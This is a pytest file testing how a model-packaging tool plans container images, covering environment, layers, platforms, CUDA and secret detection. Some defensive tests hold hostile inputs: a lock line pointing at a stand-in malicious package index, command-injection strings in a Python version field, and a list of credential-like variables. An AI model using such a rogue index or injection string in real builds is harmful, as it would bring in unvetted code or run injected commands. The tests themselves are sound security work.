from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace

import pytest

from modelpack.archive.platforms import host_platform, parse_platforms
from modelpack.config.settings import ImageSettings
from modelpack.errors import BuildError, RefusedError, SecretFoundError, StoreError, UsageError
from modelpack.image import LayerKind, plan_image
from modelpack.store import Entry, Kind, Store
from modelpack.tag import Tag

MakeBundle = Callable[..., Entry]


def test_a_plan_names_base_reason_user_port_and_entry_point(
    store: Store, make_bundle: MakeBundle
) -> None:
    plan = plan_image(store, make_bundle("cpu"), ImageSettings())

    assert plan.base.image == "python:3.11-slim"
    assert plan.user == "65532:65532"
    assert plan.port == 3000
    assert plan.entry_point[0] == "/bundle/venv/bin/python"
    assert plan.entry_point[-2:] == ("-m", "modelpack.server")
    assert plan.stop_signal == "SIGTERM"
    assert plan.workdir == "/bundle"
    assert plan.models == ("digits-clf",)
    assert plan.has_code
    assert plan.has_doc


def test_the_environment_of_an_image_is_complete(store: Store, make_bundle: MakeBundle) -> None:
    plan = plan_image(store, make_bundle("cpu"), ImageSettings(env={"LEVEL": "3"}))

    assert plan.env == {
        "HOME": "/bundle",
        "LEVEL": "3",
        "MODELPACK_BUNDLE": "/bundle",
        "MODELPACK_HOST": "0.0.0.0",
        "MODELPACK_PORT": "3000",
        "MODELPACK_TAG": "digits:1.0",
        "ORT_DISABLE_TELEMETRY": "1",
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONUNBUFFERED": "1",
        "USER": "modelpack",
    }


def test_an_image_for_a_gpu_asks_the_engine_for_it(store: Store, make_bundle: MakeBundle) -> None:
    plan = plan_image(store, make_bundle("torch"), ImageSettings())

    assert plan.env["NVIDIA_VISIBLE_DEVICES"] == "all"
    assert plan.env["NVIDIA_DRIVER_CAPABILITIES"] == "compute,utility"


def test_labels_say_which_bundle_is_inside(store: Store, make_bundle: MakeBundle) -> None:
    entry = make_bundle("cpu")
    plan = plan_image(store, entry, ImageSettings())

    assert plan.labels["dev.modelpack.bundle.digest"] == entry.digest
    assert plan.labels["dev.modelpack.tag"] == "digits:1.0"
    assert plan.labels["org.opencontainers.image.title"] == "digits"
    assert plan.labels["org.opencontainers.image.version"] == "1.0"
    assert plan.labels["org.opencontainers.image.base.name"] == plan.base.image


def test_layers_go_from_what_changes_least_to_the_code(
    store: Store, make_bundle: MakeBundle
) -> None:
    settings = ImageSettings(system_packages=("libgomp1",))
    plan = plan_image(store, make_bundle("system-cuda"), settings, cuda="12.6")

    assert [layer.what for layer in plan.layers] == [
        "base",
        "Python 3.11",
        "system packages (1)",
        "Python packages (17)",
        "server",
        "model digits-clf",
        "code",
    ]


def test_models_and_code_take_what_their_blobs_take(store: Store, make_bundle: MakeBundle) -> None:
    entry = make_bundle("cpu")
    plan = plan_image(store, entry, ImageSettings())

    size = {layer.what: layer.size_bytes for layer in plan.layers}
    models = sum(layer.size for layer in entry.layers if "/models/" in layer.path)
    assert size["model digits-clf"] == models
    assert size["code"] == sum(layer.size for layer in entry.layers) - models


def test_a_model_whose_name_starts_like_another_is_not_counted_twice(
    store: Store, make_bundle: MakeBundle
) -> None:
    entry = make_bundle("cpu")
    first = next(layer for layer in entry.layers if "/models/" in layer.path)
    other = replace(first, path="bundle/models/digits-clf-2/model.onnx", size=10**9)
    entry = replace(entry, layers=(*entry.layers, other))

    plan = plan_image(store, entry, ImageSettings())

    size = {layer.what: layer.size_bytes for layer in plan.layers}
    assert (size["model digits-clf"] or 0) < 10**9


def test_packages_of_other_systems_are_not_counted(store: Store, make_bundle: MakeBundle) -> None:
    digest = "0" * 64
    windows = f"colorama==0.4.6 ; sys_platform == 'win32' \\\n    --hash=sha256:{digest}\n"
    cuda = f"nvidia-cuda-runtime==13.0.96 ; platform_system == 'Linux' \\\n    --hash=sha256:{digest}\n"

    plan = plan_image(store, make_bundle("cpu", extra_lock=windows), ImageSettings())
    assert "Python packages (17)" in [layer.what for layer in plan.layers]

    plan = plan_image(store, make_bundle("cpu", version="2", extra_lock=cuda), ImageSettings())
    assert plan.base.has_gpu


def test_a_lock_with_an_option_is_refused(store: Store, make_bundle: MakeBundle) -> None:
    """Threat model S10: an index of its own would bring what nobody has seen."""
    entry = make_bundle("cpu", extra_lock="--index-url https://evil.example.com/simple\n")

    with pytest.raises(BuildError, match="no pinned and hashed package"):
        plan_image(store, entry, ImageSettings())


def test_a_package_that_is_here_is_weighed_on_its_own(
    store: Store, make_bundle: MakeBundle
) -> None:
    from importlib.metadata import version

    mine = version("packaging")
    extra = f"packaging=={mine} \\\n    --hash=sha256:{'0' * 64}\n"
    plan = plan_image(store, make_bundle("torch", extra_lock=extra), ImageSettings())

    (layer,) = (layer for layer in plan.layers if layer.kind is LayerKind.PACKAGES)
    (package,) = (one for one in layer.packages if one.name == "packaging" and one.version == mine)
    assert package.size_bytes is not None
    assert 200_000 < package.size_bytes < 5_000_000
    largest = layer.packages[0]
    assert f"    {largest.name} {largest.version} " in "\n".join(plan.describe())
    (plain,) = (one for one in plan.to_json()["layers"] if one["kind"] == "packages")
    assert {"name": "packaging", "version": mine, "size_bytes": package.size_bytes} in plain[
        "packages"
    ]


def test_a_plan_is_for_this_machine_unless_another_platform_is_asked_for(
    store: Store, make_bundle: MakeBundle
) -> None:
    entry = make_bundle("cpu-platforms")

    assert plan_image(store, entry, ImageSettings()).platform == host_platform()
    for name in ("linux/amd64", "linux/arm64"):
        (platform,) = parse_platforms([name])
        plan = plan_image(store, entry, ImageSettings(), platform=platform)
        assert plan.platform == platform
        assert plan.to_json()["platform"] == name
        assert plan.describe()[0].endswith(f"for {name}")


def test_markers_of_the_lock_hold_for_the_platform_of_the_image(
    store: Store, make_bundle: MakeBundle
) -> None:
    entry = make_bundle("cpu-platforms")

    versions = {}
    for platform in parse_platforms(["linux/amd64,linux/arm64"]):
        plan = plan_image(store, entry, ImageSettings(), platform=platform)
        (layer,) = (layer for layer in plan.layers if layer.kind is LayerKind.PACKAGES)
        versions[platform.name] = {one.name: one.version for one in layer.packages}

    assert versions["linux/amd64"]["onnxruntime"] == "1.30.0"
    assert versions["linux/arm64"]["onnxruntime"] == "1.32.0"
    assert len(versions["linux/amd64"]) == len(versions["linux/arm64"]) == 20


def test_a_bundle_that_is_not_locked_for_a_platform_is_refused_with_what_to_do(
    store: Store, make_bundle: MakeBundle
) -> None:
    line = "# modelpack lock 1, python 3.11, x86_64-unknown-linux-gnu, inputs sha256:" + "0" * 64
    entry = make_bundle("cpu", first_line=line)
    (arm64,) = parse_platforms(["linux/arm64"])

    with pytest.raises(UsageError, match=r"is locked for linux/amd64, not for linux/arm64") as no:
        plan_image(store, entry, ImageSettings(), platform=arm64)

    assert no.value.hint == (
        "build it with --platform linux/amd64,linux/arm64, or make the image with "
        "--platform linux/amd64"
    )


def test_cuda_on_one_platform_alone_is_warned_of(store: Store, make_bundle: MakeBundle) -> None:
    entry = make_bundle("torch-platforms")
    amd64, arm64 = (
        plan_image(store, entry, ImageSettings(), platform=platform)
        for name in ("linux/amd64", "linux/arm64")
        for platform in parse_platforms([name])
    )

    assert amd64.warnings == ()
    (warning,) = arm64.warnings
    assert warning == (
        "the lock brings CUDA 12.8 for linux/amd64 and none for linux/arm64: "
        "there it runs on processors"
    )


@pytest.mark.parametrize("place", ["oci:/srv/bases/python", "docker-archive:base.tar"])
def test_a_base_in_a_folder_leaves_no_trace_of_where_it_was(
    store: Store, make_bundle: MakeBundle, place: str
) -> None:
    """The image is the same wherever it is built."""
    plan = plan_image(store, make_bundle("cpu"), ImageSettings(), base=place)

    assert plan.base.image == place
    assert not any(place in text for text in (*plan.labels.values(), *plan.env.values()))


def test_what_nobody_knows_is_said_by_name(store: Store, make_bundle: MakeBundle) -> None:
    plan = plan_image(store, make_bundle("torch"), ImageSettings(), base="team/base:1")

    assert "team/base:1" in plan.unknown
    assert "nvidia-cublas" in plan.unknown
    assert "numpy" not in plan.unknown
    text = "\n".join(plan.describe())
    assert "and what is not known beforehand: team/base:1, " in text


def test_the_dependencies_are_as_large_as_where_they_are_installed(
    store: Store, make_bundle: MakeBundle
) -> None:
    """onnxruntime and numpy, of the locked versions or not at all, so that this can be checked."""
    from importlib.metadata import version

    if version("onnxruntime") != "1.32.0":
        pytest.skip("another onnxruntime than the lock's is installed")
    plan = plan_image(store, make_bundle("cpu"), ImageSettings())

    size = next(layer.size_bytes for layer in plan.layers if "packages" in layer.what)
    assert size is not None
    assert 100e6 < size < 300e6


def test_the_plan_is_said_in_lines_for_people(store: Store, make_bundle: MakeBundle) -> None:
    lines = plan_image(store, make_bundle("torch"), ImageSettings(), cuda="12.6").describe()

    assert lines[0].startswith("image of digits:1.0 (sha256:")
    assert lines[1] == "base nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04: CUDA 12.6 was asked for"
    assert "runs as 65532:65532, port 3000: /bundle/venv/bin/python -I" in lines[-2]
    assert lines[-1].startswith("warning: CUDA is carried twice")


def test_the_plan_is_json(store: Store, make_bundle: MakeBundle) -> None:
    entry = make_bundle("cpu")

    value = json.loads(json.dumps(plan_image(store, entry, ImageSettings()).to_json()))

    assert value["tag"] == "digits:1.0"
    assert value["digest"] == entry.digest
    assert value["base"]["image"] == "python:3.11-slim"
    assert value["size_bytes"] == sum(layer["size_bytes"] or 0 for layer in value["layers"])


def test_the_same_bundle_gives_the_same_plan(store: Store, make_bundle: MakeBundle) -> None:
    assert plan_image(store, make_bundle("cpu"), ImageSettings()) == plan_image(
        store, make_bundle("cpu"), ImageSettings()
    )


def test_a_flag_stands_above_the_settings(store: Store, make_bundle: MakeBundle) -> None:
    entry = make_bundle("cpu")
    settings = ImageSettings(base="team/base:1")

    assert plan_image(store, entry, settings).base.image == "team/base:1"
    assert plan_image(store, entry, settings, base="other:1").base.image == "other:1"
    assert "12.6.3" in plan_image(store, entry, settings, cuda="12.6").base.image


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("HF_TOKEN", "x"),
        ("AWS_SECRET_ACCESS_KEY", "x"),
        ("AWS_ACCESS_KEY_ID", "x"),
        ("OPENAI_API_KEY", "x"),
        ("DB_PASSWORD", "x"),
        ("password", "x"),
        ("DATABASE_URL", "postgres://me:hunter2@db/x"),
        ("KEY_FILE", "-----BEGIN RSA PRIVATE KEY-----"),
    ],
)
def test_a_secret_never_becomes_part_of_an_image(
    store: Store, make_bundle: MakeBundle, name: str, value: str
) -> None:
    with pytest.raises(
        SecretFoundError, match=rf"image\.env\.{name} looks like a secret"
    ) as caught:
        plan_image(store, make_bundle("cpu"), ImageSettings(env={name: value}))

    assert value == "x" or value not in str(caught.value)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("MAX_TOKENS", "512"),
        ("EOS_TOKEN", "</s>"),
        ("TOKENIZERS_PARALLELISM", "false"),
        ("HF_TOKEN", ""),
        ("ENDPOINT", "https://example.com/a@b"),
        ("KEYBOARD", "x"),
    ],
)
def test_what_only_sounds_like_a_secret_may_stand_there(
    store: Store, make_bundle: MakeBundle, name: str, value: str
) -> None:
    plan = plan_image(store, make_bundle("cpu"), ImageSettings(env={name: value}))

    assert plan.env[name] == value


def test_variables_that_the_image_sets_itself_cannot_be_set(
    store: Store, make_bundle: MakeBundle
) -> None:
    with pytest.raises(UsageError, match=r"image\.env\.MODELPACK_PORT is set by the image"):
        plan_image(store, make_bundle("cpu"), ImageSettings(env={"MODELPACK_PORT": "1"}))


@pytest.mark.parametrize("python", ["3", "3.11.2", "3.11; evil", "$(evil)", "2.7", "3.11\n"])
def test_a_bundle_with_an_odd_python_version_is_refused(
    store: Store, make_bundle: MakeBundle, python: str
) -> None:
    with pytest.raises((RefusedError, UsageError)):
        plan_image(store, make_bundle("cpu", python=python), ImageSettings())


def test_a_model_is_not_containerized(store: Store) -> None:
    entry = Entry(Kind.MODEL, Tag("m", "1"), "sha256:" + "0" * 64, 0, (), {})

    with pytest.raises(StoreError, match="not a bundle"):
        plan_image(store, entry, ImageSettings())


def test_a_base_of_ones_own_that_brings_cuda_is_warned_of_when_it_is_seen(
    store: Store, make_bundle: MakeBundle
) -> None:
    """Its name says nothing; the variable that NVIDIA's images set does."""
    torch = plan_image(store, make_bundle("torch"), ImageSettings(), base="team/base:1")
    cpu = plan_image(store, make_bundle("cpu", version="2"), ImageSettings(), base="team/base:1")
    variables = ["PATH=/usr/bin", "CUDA_VERSION=12.6.3"]

    (warning,) = torch.warnings_on(variables)
    assert warning.startswith(
        "CUDA is carried twice: the base has CUDA 12.6.3 and the lock brings CUDA 13.0 as wheels"
    )
    (odd,) = torch.warnings_on(["CUDA_VERSION=\x1b[31m"])
    assert odd.startswith("CUDA is carried twice: the base has one and")
    assert torch.warnings_on(["PATH=/usr/bin"]) == ()
    assert cpu.warnings_on(variables) == ()
    assert (torch.cuda_wheels, cpu.cuda_wheels) == ("13.0", None)
